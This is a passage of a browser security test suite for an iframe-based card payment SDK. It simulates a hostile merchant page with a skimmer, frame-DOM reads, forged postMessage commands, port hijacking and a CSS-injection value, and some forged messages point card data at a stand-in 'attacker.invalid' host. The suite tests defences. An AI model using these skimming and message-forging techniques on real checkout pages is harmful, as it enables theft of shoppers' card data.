// The hostile-merchant suite: the merchant page is the attacker (an XSS, a skimmer, a rogue
// third-party script). Every case attacks, then proves two things: no card number or CVC
// reached the merchant realm, and the fields still take a payment.
//
// The drop-in (<payframe-checkout>) is one card frame that holds the three inputs and tokenizes by
// itself; split fields (<payframe-card-group>, also on the demo page) are a frame per field plus a
// hidden controller frame, joined by a BroadcastChannel. Attacks on a controller or on the channel
// run against the card group; attacks on "the frame that tokenizes" run against both.
import type { Frame, Page } from '@playwright/test';
import type { TokenizeResult } from '../../src/index.ts';
import { expect, test } from './fixtures.ts';
import { capturedPort, capturePorts } from './harness/attacker.ts';
import { CardFieldsHarness } from './harness/card-fields-harness.ts';
import { findSecrets, SECRET_CARD } from './harness/secrets.ts';
import { collectLoot, installSkimmer } from './harness/skimmer.ts';

test.beforeEach(async ({ page, demo, checkout }) => {
  await page.addInitScript(installSkimmer, demo.merchantUrl);
  await page.addInitScript(capturePorts, demo.merchantUrl);
  await page.goto(demo.merchantUrl);
  await checkout.waitReady();
});

/** After the attack: the shopper can still pay, and nothing of the card reached the page. */
async function expectFieldsStillWorkAndNothingLeaked(page: Page, checkout: CardFieldsHarness): Promise<void> {
  for (const kind of ['number', 'expiry', 'cvc'] as const) {
    if ((await checkout.value(kind)) !== '') await checkout.clear(kind);
  }
  await checkout.fillCard(SECRET_CARD);
  const result = await checkout.tokenize();
  expect('paymentMethod' in result && result.paymentMethod.card.last4, JSON.stringify(result)).toBe('1111');
  const loot = await page.evaluate(collectLoot);
  expect(findSecrets(loot.records.join('\n'))).toEqual([]);
  expect(findSecrets(loot.dom)).toEqual([]);
}

const LAYOUTS = [
  { layout: 'drop-in', label: 'the drop-in\'s card frame' },
  { layout: 'split', label: 'the split fields\' controller' },
] as const;

/** The drop-in, or the demo page's card group once it is ready. */
async function harnessFor(layout: 'drop-in' | 'split', checkout: CardFieldsHarness, split: CardFieldsHarness): Promise<CardFieldsHarness> {
  if (layout === 'drop-in') return checkout;
  await split.waitReady();
  return split;
}

/** How many messages a frame dropped (frames count them on their own window). */
function droppedIn(frame: Frame): Promise<number> {
  return frame.evaluate(() => window.payframeDroppedMessages ?? 0);
}

function droppedByMerchantSdk(page: Page): Promise<number> {
  return page.evaluate(() => window.Payframe!.droppedMessageCount());
}

/** The frame that tokenizes: the drop-in's card frame, or the card group's hidden controller. */
async function paymentFrame(page: Page, checkout: CardFieldsHarness): Promise<Frame> {
  if (checkout.cardFrame) return checkout.frame('number');
  const src = await page.locator(`${checkout.host} iframe[src*="/controller.html#"]`).getAttribute('src');
  return page.frames().find((candidate) => candidate.url() === src)!;
}

/** The frame kind its hello names (what `capturedPortFor` takes). */
function paymentFrameKind(checkout: CardFieldsHarness): 'card' | 'controller' {
  return checkout.cardFrame ? 'card' : 'controller';
}

/** A merchant page that, like many, lets third-party frames on it (no frame-src in its CSP). */
async function openMerchantPageWithThirdPartyFrames(page: Page, merchantUrl: string, checkout: CardFieldsHarness): Promise<void> {
  await page.goto(`${merchantUrl}/test-pages/merchant.html`);
  await checkout.waitReady();
  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
}

/** The same page with a card group instead of a drop-in (test-pages/a11y.html?split). */
async function openSplitPageWithThirdPartyFrames(page: Page, merchantUrl: string, split: CardFieldsHarness): Promise<void> {
  await page.goto(`${merchantUrl}/test-pages/a11y.html?split`);
  await split.waitReady();
  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
}

/** The drop-in's checkout id, as any script reads it from its card frame's URL. */
function cardCheckoutId(page: Page): Promise<string> {
  return page.evaluate(() => new URLSearchParams(new URL(document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!.src).hash.slice(1)).get('checkout')!);
}

/** Embeds a frame page of ours into `page` itself, with the fragment it chooses, and returns its frame once loaded. */
async function embedFramePage(page: Page, url: string, marker: string): Promise<Frame> {
  await page.evaluate((src) => {
    const iframe = document.createElement('iframe');
    iframe.src = src;
    document.body.append(iframe);
    return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
  }, url);
  return page.frames().find((frame) => frame.url().includes(marker))!;
}

/**
 * Whether a frame page started: its inputs are wired (each gets its autocomplete and formatting
 * when the page starts), or it is not our page at all (the browser refused to render it).
 */
async function startedIn(frame: Frame): Promise<boolean> {
  return frame.evaluate(() => [...document.querySelectorAll('input')].some((input) => input.autocomplete !== '')).catch(() => false);
}

function cardPageUrl(fieldsOrigin: string, key: string, params: { frame?: string; checkout: string; host: string }): string {
  return `${fieldsOrigin}/frames/${key}/card.html#${new URLSearchParams({ frame: 'card', ...params })}`;
}

test.describe('reading the fields from the merchant page', () => {
  test('attack: read the card frame DOM (contentDocument, contentWindow.document, named inputs, frames[], activeElement)', async ({ page, checkout }) => {
    await checkout.type('number', SECRET_CARD.number);
    const attempts = await page.evaluate(() => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
      const results: string[] = [];
      const attempt = (name: string, read: () => unknown) => {
        try {
          results.push(`${name}: ${String(read())}`);
        } catch (error) {
          results.push(`${name}: ${(error as Error).name}`);
        }
      };
      attempt('contentDocument', () => iframe.contentDocument);
      attempt('contentWindow.document', () => iframe.contentWindow!.document.querySelector('input')!.value);
      // The card frame's inputs have ids (number, expiry, cvc): named access on its window.
      attempt('contentWindow.number', () => (iframe.contentWindow as unknown as { number: HTMLInputElement }).number.value);
      attempt('window.frames', () => window.frames.length);
      attempt('activeElement', () => (document.activeElement as HTMLInputElement | null)?.value);
      return results;
    });
    expect(attempts).toEqual(['contentDocument: null', 'contentWindow.document: SecurityError', 'contentWindow.number: SecurityError', 'window.frames: 0', 'activeElement: undefined']);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: listen to every message, port message and event while the shopper types', async ({ page, checkout }) => {
    await checkout.fillCard(SECRET_CARD);
    const loot = await page.evaluate(collectLoot);
    expect(loot.records.filter((entry) => entry.startsWith('port in:')).length).toBeGreaterThan(5);
    expect(findSecrets(loot.records.join('\n'))).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: open the split fields\' BroadcastChannel from the merchant page (and one named after the drop-in\'s id, which has none)', async ({ page, checkout, split }) => {
    const group = await harnessFor('split', checkout, split);
    const ids = await page.evaluate(() =>
      ['payframe-card-group', 'payframe-checkout'].map((host) => {
        const src = document.querySelector(host)!.shadowRoot!.querySelector('[part="card"] iframe, iframe[src*="/controller.html#"]')!.getAttribute('src')!;
        return new URLSearchParams(new URL(src).hash.slice(1)).get('checkout')!;
      }),
    );
    // Same channel names, but the merchant origin's own channels: nothing crosses.
    await page.evaluate((checkoutIds) => {
      (window as unknown as { heard: unknown[] }).heard = [];
      for (const id of checkoutIds) {
        const channel = new BroadcastChannel(`payframe:${id}`);
        channel.onmessage = (event) => (window as unknown as { heard: unknown[] }).heard.push(event.data);
        channel.postMessage({ type: 'collect', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA' });
      }
    }, ids);
    await group.fillCard(SECRET_CARD);
    const fromGroup = await group.tokenize();
    expect('paymentMethod' in fromGroup && fromGroup.paymentMethod.card.last4, JSON.stringify(fromGroup)).toBe('1111');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
  });
});

test.describe('forged messages to the frames', () => {
  test('attack: a forged tokenize to a split field frame is dropped', async ({ page, checkout, split }) => {
    const group = await harnessFor('split', checkout, split);
    const field = await group.frame('number');
    const before = await droppedIn(field);
    await page.evaluate((host) => capturedPortFor('number', host).postMessage({ type: 'tokenize', requestId: 'forged-0001', publishableKey: 'pk_test_x', fields: ['number'] }), group.host);
    await expect.poll(() => droppedIn(field)).toBe(before + 1);
    await expectFieldsStillWorkAndNothingLeaked(page, group);
  });

  for (const { layout, label } of LAYOUTS) {
    test(`attack: a forged "value" message to ${label} is dropped; the typed card is what gets tokenized`, async ({ page, checkout, split }) => {
      const target = await harnessFor(layout, checkout, split);
      await target.fillCard(SECRET_CARD);
      const frame = await paymentFrame(page, target);
      const before = await droppedIn(frame);
      await page.evaluate(
        ({ kind, host }) => capturedPortFor(kind, host).postMessage({ type: 'value', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA', field: 'number', value: '4000056655665556' }),
        { kind: paymentFrameKind(target), host: target.host },
      );
      await expect.poll(() => droppedIn(frame)).toBe(before + 1);
      const result = await target.tokenize();
      expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });

    test(`attack: a forged tokenize to ${label} asking for the result elsewhere answers only on the port`, async ({ page, demo, checkout, split }) => {
      const target = await harnessFor(layout, checkout, split);
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await target.fillCard(SECRET_CARD);
      const reply = await page.evaluate(
        ({ key, kind, host }) =>
          new Promise<unknown>((resolve) => {
            const port = capturedPortFor(kind, host);
            port.addEventListener('message', (event) => {
              if ((event.data as { requestId?: string }).requestId === 'forged-0002') resolve(event.data);
            });
            port.postMessage({ type: 'tokenize', requestId: 'forged-0002', publishableKey: key, fields: ['number', 'expiry', 'cvc'], replyTo: 'http://attacker.invalid/collect', targetOrigin: '*' });
          }),
        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
      );
      expect(reply).toMatchObject({ type: 'tokenize-result', requestId: 'forged-0002', result: { paymentMethod: { card: { last4: '1111' } } } });
      expect(requests.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });

    test(`attack: a forged gateway URL in tokenize and configure to ${label} is ignored; cards go to the configured gateway only`, async ({ page, demo, checkout, split }) => {
      const target = await harnessFor(layout, checkout, split);
      const gatewayPosts: string[] = [];
      page.on('request', (request) => {
        if (request.method() === 'POST') gatewayPosts.push(request.url());
      });
      // configure goes to whatever frame holds inputs: the card frame, or each split field.
      await page.evaluate(
        ({ kinds, host }) => {
          for (const kind of kinds) capturedPortFor(kind, host).postMessage({ type: 'configure', options: { gateway: 'http://attacker.invalid', gatewayUrl: 'http://attacker.invalid' } });
        },
        { kinds: target.cardFrame ? ['card'] : ['number', 'expiry', 'cvc'], host: target.host },
      );
      await target.fillCard(SECRET_CARD);
      await page.evaluate(
        ({ key, kind, host }) =>
          capturedPortFor(kind, host).postMessage({ type: 'tokenize', requestId: 'forged-0003', publishableKey: key, fields: ['number', 'expiry', 'cvc'], gatewayUrl: 'http://attacker.invalid', gateway: 'http://attacker.invalid' }),
        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
      );
      await expect.poll(() => gatewayPosts.length).toBe(1);
      expect(gatewayPosts).toEqual([`${demo.gatewayUrl}/v1/payment_methods`]);
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });

    test(`attack: tokenize forged straight to ${label} of an empty checkout is refused by that frame itself`, async ({ page, demo, checkout, split, gatewayTraffic }) => {
      const target = await harnessFor(layout, checkout, split);
      const reply = await page.evaluate(
        ({ key, kind, host }) =>
          new Promise<{ result: TokenizeResult }>((resolve) => {
            const port = capturedPortFor(kind, host);
            port.addEventListener('message', (event) => {
              if ((event.data as { requestId?: string }).requestId === 'forged-0004') resolve(event.data);
            });
            port.postMessage({ type: 'tokenize', requestId: 'forged-0004', publishableKey: key, fields: ['number', 'expiry', 'cvc'] });
          }),
        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
      );
      expect(reply.result).toEqual({ error: { code: 'incomplete_number', message: 'Your card number is incomplete.', field: 'number' } });
      expect(gatewayTraffic.tokenizations()).toHaveLength(0);
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });

    test(`attack: a forged tokenize to ${label} naming another key (a secret key) still tokenizes only with the key the frames were served for`, async ({ page, demo, checkout, split, gatewayTraffic }) => {
      const target = await harnessFor(layout, checkout, split);
      await target.fillCard(SECRET_CARD);
      await page.evaluate(
        ({ kind, host }) => capturedPortFor(kind, host).postMessage({ type: 'tokenize', requestId: 'forged-0005', publishableKey: 'sk_test_stolen', fields: ['number', 'expiry', 'cvc'] }),
        { kind: paymentFrameKind(target), host: target.host },
      );
      await expect.poll(() => gatewayTraffic.tokenizations().length).toBe(1);
      expect(gatewayTraffic.tokenizations()[0]!.headers()['authorization']).toBe(`Bearer ${demo.publishableKey}`);
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });
  }

  test('attack: connect forged to the card frame after its handshake (replayed with a fake port, a wrong id, no port, two ports, any origin, from a second page) takes no port and hears nothing', async ({ page, demo, checkout, gatewayTraffic }) => {
    const card = await checkout.frame('number');
    const before = await droppedIn(card);
    await page.evaluate(
      ({ fieldsOrigin }) => {
        const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout')!;
        const heard: unknown[] = [];
        (window as unknown as { forgedHeard: unknown[] }).forgedHeard = heard;
        const fakeChannel = () => {
          const channel = new MessageChannel();
          channel.port1.onmessage = (event) => heard.push(event.data);
          return channel;
        };
        const connect = (checkout: string) => ({ payframe: 1, type: 'connect', checkout });
        const target = iframe.contentWindow!;
        const replayed = fakeChannel();
        target.postMessage(connect(checkoutId), fieldsOrigin, [replayed.port2]);
        const wrongId = fakeChannel();
        target.postMessage(connect('AttackAttackAttackAttack'), fieldsOrigin, [wrongId.port2]);
        target.postMessage(connect(checkoutId), fieldsOrigin);
        const [first, second] = [fakeChannel(), fakeChannel()];
        target.postMessage(connect(checkoutId), fieldsOrigin, [first.port2, second.port2]);
        const anyOrigin = fakeChannel();
        target.postMessage(connect(checkoutId), '*', [anyOrigin.port2]);
        // A command through the frame's window instead of its port.
        target.postMessage({ type: 'tokenize', requestId: 'forged-window-001', fields: ['number', 'expiry', 'cvc'] }, fieldsOrigin);
        // And on every fake port, what the SDK would ask: had the frame taken one, the answer would come back on it.
        for (const channel of [replayed, wrongId, first, second, anyOrigin]) channel.port1.postMessage({ type: 'tokenize', requestId: 'forged-port-00001', fields: ['number', 'expiry', 'cvc'] });
      },
      { fieldsOrigin: demo.fieldsOrigin },
    );
    // A second page of the merchant's site (a popup the page opened) reaches the frame's window through its opener.
    const popupOpened = page.waitForEvent('popup');
    await page.evaluate((url) => void window.open(url, 'second-page'), `${demo.merchantUrl}/test-pages/blank.html`);
    const popup = await popupOpened;
    await popup.waitForLoadState();
    await popup.evaluate(
      ({ fieldsOrigin }) => {
        const iframe = (window.opener as Window).document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout')!;
        const channel = new MessageChannel();
        const heard: unknown[] = [];
        (window as unknown as { forgedHeard: unknown[] }).forgedHeard = heard;
        channel.port1.onmessage = (event) => heard.push(event.data);
        iframe.contentWindow!.postMessage({ payframe: 1, type: 'connect', checkout: checkoutId }, fieldsOrigin, [channel.port2]);
        channel.port1.postMessage({ type: 'tokenize', requestId: 'forged-popup-0001', fields: ['number', 'expiry', 'cvc'] });
      },
      { fieldsOrigin: demo.fieldsOrigin },
    );
    // Every one of them was dropped and counted by the frame.
    await expect.poll(() => droppedIn(card)).toBe(before + 7);
    // The frame still talks to the SDK's port only: the page gets the states as the shopper types
    // (fillCard waits for them), the fake ports get nothing, not even an answer to their tokenize.
    // The two that were well-formed second connects from the page (replayed, any origin) hear that
    // the frame's port is taken, on their own port, and nothing more; the checkout keeps working.
    await checkout.fillCard(SECRET_CARD);
    expect(await page.evaluate(() => (window as unknown as { forgedHeard: unknown[] }).forgedHeard)).toEqual([{ type: 'claimed' }, { type: 'claimed' }]);
    expect(await popup.evaluate(() => (window as unknown as { forgedHeard: unknown[] }).forgedHeard)).toEqual([]);
    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
    await popup.close();
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: a page script that answers the card frame\'s hello before the SDK does holds its port, and gets what the SDK would: states and tokens of the merchant\'s key, never a value', async ({ page, demo, checkout, gatewayTraffic }) => {
    // Installed before any page script, its listener runs before the SDK's. (Not defended: a page
    // script can also call tokenize() on the element. SECURITY.md, "What is not defended".)
    await page.addInitScript(
      ({ merchantOrigin, fieldsOrigin }) => {
        if (location.origin !== merchantOrigin) return;
        const heard: unknown[] = [];
        const first = { heard, port: undefined as MessagePort | undefined };
        (window as unknown as { firstToAnswer: typeof first }).firstToAnswer = first;
        window.addEventListener(
          'message',
          (event) => {
            const hello = event.data as { type?: string; frame?: string; checkout?: string; ready?: true };
            if (first.port || event.origin !== fieldsOrigin || hello?.type !== 'hello' || hello.frame !== 'card') return;
            const channel = new MessageChannel();
            first.port = channel.port1;
            // As the SDK hears it: a card frame laid out from its URL says it is ready in its hello.
            if (hello.ready) heard.push({ type: 'ready' });
            channel.port1.onmessage = (message) => heard.push(message.data);
            (event.source as Window).postMessage({ payframe: 1, type: 'connect', checkout: hello.checkout }, fieldsOrigin, [channel.port2]);
            channel.port1.postMessage({ type: 'configure', options: {} });
          },
          true,
        );
      },
      { merchantOrigin: demo.merchantUrl, fieldsOrigin: demo.fieldsOrigin },
    );
    await page.goto(`${demo.merchantUrl}/test-pages/merchant.html`);
    const heard = () => page.evaluate(() => (window as unknown as { firstToAnswer: { heard: { type: string; field?: string; state?: { complete: boolean } }[] } }).firstToAnswer.heard);
    await expect.poll(async () => (await heard()).map((message) => message.type)).toContain('ready');
    // The SDK's own connect came second and was dropped. The frame says so on the SDK's port, and the
    // checkout stops with fields_claimed (it took the hello's `ready` for a moment; nothing it sent reached the frame).
    await expect.poll(async () => droppedIn(await checkout.frame('number'))).toBe(1);
    await expect.poll(() => page.evaluate(() => (document.querySelector('payframe-checkout') as unknown as { ready: boolean }).ready)).toBe(false);
    await expect(page.locator('payframe-checkout [part="form-error"]')).toHaveText(/locked to keep your card safe/);
    // The shopper types into the frame as usual.
    for (const [kind, text] of Object.entries(SECRET_CARD) as ['number' | 'expiry' | 'cvc', string][]) {
      await checkout.input(kind).focus();
      await checkout.input(kind).pressSequentially(text);
    }
    await expect.poll(async () => (await heard()).some((message) => message.type === 'change' && message.field === 'cvc' && message.state?.complete)).toBe(true);
    const answer = await page.evaluate(
      () =>
        new Promise<unknown>((resolve) => {
          const port = (window as unknown as { firstToAnswer: { port: MessagePort } }).firstToAnswer.port;
          port.addEventListener('message', (event) => {
            if ((event.data as { requestId?: string }).requestId === 'first-to-answer-01') resolve(event.data);
          });
          port.postMessage({ type: 'tokenize', requestId: 'first-to-answer-01', fields: ['number', 'expiry', 'cvc'] });
        }),
    );
    // A token of the merchant's own account, as tokenize() on the element would give: never a value.
    expect(answer).toMatchObject({ type: 'tokenize-result', result: { paymentMethod: { card: { last4: '1111' } } } });
    expect(gatewayTraffic.tokenizations().map((request) => request.headers()['authorization'])).toEqual([`Bearer ${demo.publishableKey}`]);
    const everything = JSON.stringify(await heard());
    expect(findSecrets(everything)).toEqual([]);
    expect(everything).not.toMatch(/"(value|length|caret|selection\w*|digits|number|cvc)":/);
  });

  test('attack: a page script holding the card frame\'s port enables the bank debits itself: it hears the IBAN\'s state, never the IBAN, and cannot read it through the frame', async ({ page, demo, checkout }) => {
    const iban = 'AT611904300234573201';
    await page.addInitScript(
      ({ merchantOrigin, fieldsOrigin }) => {
        if (location.origin !== merchantOrigin) return;
        const heard: unknown[] = [];
        const first = { heard, port: undefined as MessagePort | undefined };
        (window as unknown as { firstToAnswer: typeof first }).firstToAnswer = first;
        window.addEventListener(
          'message',
          (event) => {
            const hello = event.data as { type?: string; frame?: string; checkout?: string; ready?: true };
            if (first.port || event.origin !== fieldsOrigin || hello?.type !== 'hello' || hello.frame !== 'card') return;
            const channel = new MessageChannel();
            first.port = channel.port1;
            if (hello.ready) heard.push({ type: 'ready' });
            channel.port1.onmessage = (message) => heard.push(message.data);
            (event.source as Window).postMessage({ payframe: 1, type: 'connect', checkout: hello.checkout }, fieldsOrigin, [channel.port2]);
            // The attacker lays out the SEPA panel itself.
            channel.port1.postMessage({ type: 'configure', options: { paymentMethods: ['sepa_debit'], defaults: { business: 'Evil Corp' } } });
          },
          true,
        );
      },
      { merchantOrigin: demo.merchantUrl, fieldsOrigin: demo.fieldsOrigin },
    );
    await page.goto(`${demo.merchantUrl}/test-pages/merchant.html`);
    const heard = () => page.evaluate(() => (window as unknown as { firstToAnswer: { heard: { type: string; field?: string; state?: { complete: boolean } }[] } }).firstToAnswer.heard);
    await expect.poll(async () => (await heard()).map((message) => message.type)).toContain('ready');
    const frame = page.frameLocator('payframe-checkout [part="card"] iframe');
    await frame.locator('#iban').pressSequentially(iban);
    await expect.poll(async () => (await heard()).some((message) => message.type === 'change' && message.field === 'iban' && message.state?.complete)).toBe(true);
    // Through the frame's window: the same-origin policy stands between the page and the input.
    const reads = await page.evaluate(() => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
      const results: string[] = [];
      for (const [name, read] of [
        ['contentDocument', () => iframe.contentDocument],
        ['contentWindow.iban', () => (iframe.contentWindow as unknown as { iban: HTMLInputElement }).iban.value],
      ] as const) {
        try {
          results.push(`${name}: ${String(read())}`);
        } catch (error) {
          results.push(`${name}: ${(error as Error).name}`);
        }
      }
      return results;
    });
    expect(reads).toEqual(['contentDocument: null', 'contentWindow.iban: SecurityError']);
    // What it heard: states only. Not the IBAN, its digits, its grouped form, its length or its bank code.
    const everything = JSON.stringify(await heard());
    for (const secret of [iban, iban.slice(4), 'AT61 1904 3002 3457 3201', '19043']) expect(everything).not.toContain(secret);
    expect(everything).not.toMatch(/"(value|length|caret|selection\w*|digits|iban|bankCode)":/);
  });

  test('attack: height messages forged on the SDK\'s port of the card frame are bounded: only an integer from 0 to 1000 is taken, the rest is dropped and counted', async ({ page, checkout }) => {
    const card = page.locator('payframe-checkout [part="card"]');
    // What the element's box holds: its height, and how many style declarations in all.
    const boxStyle = () => card.evaluate((element) => ({ height: (element as HTMLElement).style.height, declarations: (element as HTMLElement).style.length }));
    // The frame told its real height already.
    await expect.poll(async () => (await boxStyle()).height).toMatch(/^\d+px$/);
    const genuine = await boxStyle();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const before = await droppedByMerchantSdk(page);
    // As if the frame had sent them: delivered to the SDK's own port listener.
    const forged = await page.evaluate(() => {
      const port = capturedPortFor('card');
      const heights: unknown[] = ['1px;background-image:url(http://attacker.invalid/height);x:', '100px', '300', 1001, -1, 10.5, 1e9, 2 ** 53, Infinity, NaN, null, [300], { valueOf: () => 300 }];
      for (const height of heights) port.dispatchEvent(new MessageEvent('message', { data: { type: 'height', height } }));
      port.dispatchEvent(new MessageEvent('message', { data: { type: 'height' } }));
      return heights.length + 1;
    });
    await expect.poll(() => droppedByMerchantSdk(page)).toBe(before + forged);
    expect(await boxStyle()).toEqual(genuine);
    // What the page does take from a forged message is a height, in range, and nothing else.
    await page.evaluate(() => capturedPortFor('card').dispatchEvent(new MessageEvent('message', { data: { type: 'height', height: 1000, style: 'background:red' } })));
    await expect.poll(boxStyle).toEqual({ height: '1000px', declarations: 1 });
    expect((await card.boundingBox())!.height).toBeLessThanOrEqual(1000);
    expect(requests.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: hellos forged to the SDK, by another frame on the page and by the page itself, are ignored', async ({ page, demo, checkout }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    // A third-party frame (another origin) inside the merchant page pretends to be the card frame.
    const attackerUrl = `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`;
    // The page's own fake port, made before counting (the capture counts every MessageChannel made on the page).
    await page.evaluate(() => void ((window as unknown as { fakeChannel: MessageChannel }).fakeChannel = new MessageChannel()));
    const channelsBefore = await page.evaluate(() => window.capturedPorts!.length);
    const hellosBefore = (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length;
    await page.evaluate((url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      frame.id = 'third-party';
      document.body.append(frame);
      return new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    }, attackerUrl);
    const attacker = page.frames().find((frame) => frame.url() === attackerUrl)!;
    const checkoutId = await cardCheckoutId(page);
    await attacker.evaluate(
      ({ id, merchant }) => {
        for (const frame of ['card', 'number', 'expiry', 'cvc', 'controller']) window.parent.postMessage({ payframe: 1, type: 'hello', frame, checkout: id }, merchant);
        window.parent.postMessage({ type: 'tokenize-result', requestId: 'x', result: { paymentMethod: { id: 'pm_fake' } } }, merchant);
      },
      { id: checkoutId, merchant: demo.merchantUrl },
    );
    // The page itself, with a fake port alongside.
    await page.evaluate((id) => {
      const channel = (window as unknown as { fakeChannel: MessageChannel }).fakeChannel;
      window.postMessage({ payframe: 1, type: 'hello', frame: 'card', checkout: id }, '*', [channel.port2]);
      window.postMessage({ type: 'height', height: 1000 }, '*');
    }, checkoutId);
    // The hellos were delivered (the skimmer heard them, and the height sent last), yet the SDK made no new port.
    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBeGreaterThanOrEqual(hellosBefore + 6);
    await expect.poll(async () => (await page.evaluate(collectLoot)).records.some((entry) => entry.includes('"type":"height","height":1000'))).toBe(true);
    expect(await page.evaluate(() => window.capturedPorts!.length)).toBe(channelsBefore);
    expect(await page.locator('payframe-checkout [part="card"]').evaluate((element) => (element as HTMLElement).style.height)).not.toBe('1000px');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: "connect" from the right origin but the wrong window (a same-origin child frame) is dropped by a card frame', async ({ page, demo, checkout }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    // A raw card frame the page embeds itself, so no SDK answers its hello first.
    const checkoutId = 'AttackAttackAttackAttack';
    await page.evaluate(
      ({ src, merchant }) => {
        const card = document.createElement('iframe');
        card.id = 'raw-card';
        card.src = src;
        const helper = document.createElement('iframe');
        helper.id = 'same-origin-helper';
        helper.src = `${merchant}/test-pages/blank.html`;
        document.body.append(card, helper);
        return Promise.all([card, helper].map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))));
      },
      { src: cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: checkoutId, host: demo.merchantUrl }), merchant: demo.merchantUrl },
    );
    const helper = page.frames().find((frame) => frame.url().endsWith('/test-pages/blank.html'))!;
    const rawCard = page.frames().find((frame) => frame.url().includes(`checkout=${checkoutId}`))!;
    const fromHelper = await helper.evaluate(
      ({ fieldsOrigin, id }) =>
        new Promise<unknown[]>((resolve) => {
          const target = (window.parent.document.getElementById('raw-card') as HTMLIFrameElement).contentWindow!;
          const channel = new MessageChannel();
          const heard: unknown[] = [];
          channel.port1.onmessage = (event) => heard.push(event.data);
          target.postMessage({ payframe: 1, type: 'connect', checkout: id }, fieldsOrigin, [channel.port2]);
          // The genuine parent connects next: if the helper's port had been taken, it would hear "ready".
          setTimeout(() => resolve(heard), 0);
        }),
      { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
    );
    expect(fromHelper).toEqual([]);
    await expect.poll(() => droppedIn(rawCard)).toBe(1);
    const fromParent = await page.evaluate(
      ({ fieldsOrigin, id }) =>
        new Promise<unknown>((resolve) => {
          const target = (document.getElementById('raw-card') as HTMLIFrameElement).contentWindow!;
          const channel = new MessageChannel();
          channel.port1.onmessage = (event) => resolve(event.data);
          target.postMessage({ payframe: 1, type: 'connect', checkout: id }, fieldsOrigin, [channel.port2]);
        }),
      { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
    );
    expect(fromParent).toMatchObject({ type: expect.stringMatching(/^(ready|change|height)$/) });
  });

  for (const { layout, label } of LAYOUTS) {
    test(`attack: messages of every wrong shape to every frame (${layout === 'drop-in' ? 'the drop-in\'s card frame' : 'split fields and their controller'}) are dropped and counted`, async ({ page, checkout, split }) => {
      void label;
      const target = await harnessFor(layout, checkout, split);
      // {type:'focus', extra, value} is a valid focus command once extras are stripped (the field and
      // card frames take it, a controller does not); the last is over a limit of that frame's schema.
      const junk = [null, 42, 'tokenize', [], { type: 'focus', extra: { deep: [1, 2, 3] }, value: 1 }, { type: 'configure' }, { type: 'tokenize' }, { payframe: 1 }];
      const overLimit = target.cardFrame ? { type: 'configure', options: { locale: 'x'.repeat(101) } } : { type: 'configure', options: { placeholder: 'x'.repeat(101) } };
      const kinds = target.cardFrame ? (['card'] as const) : (['number', 'expiry', 'cvc', 'controller'] as const);
      const frameOf = (kind: (typeof kinds)[number]) => (kind === 'controller' || kind === 'card' ? paymentFrame(page, target) : target.frame(kind));
      const before = await Promise.all(kinds.map(async (kind) => droppedIn(await frameOf(kind))));
      await page.evaluate(
        ({ messages, kinds, host }) => {
          for (const kind of kinds) for (const message of messages) capturedPortFor(kind, host).postMessage(message);
        },
        { messages: [...junk, overLimit], kinds: [...kinds], host: target.host },
      );
      for (const [index, kind] of kinds.entries()) {
        const frame = await frameOf(kind);
        await expect.poll(() => droppedIn(frame), { message: kind }).toBe(before[index]! + (kind === 'controller' ? junk.length + 1 : junk.length));
      }
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });
  }
});

test.describe('tampering with the frames', () => {
  test('attack: navigate the card frame away and back: the frame reconnects and works', async ({ page, demo, checkout }) => {
    const cardPorts = () => page.evaluate(() => window.capturedPorts!.filter((entry) => entry.frame === 'card').length);
    const portsBefore = await cardPorts();
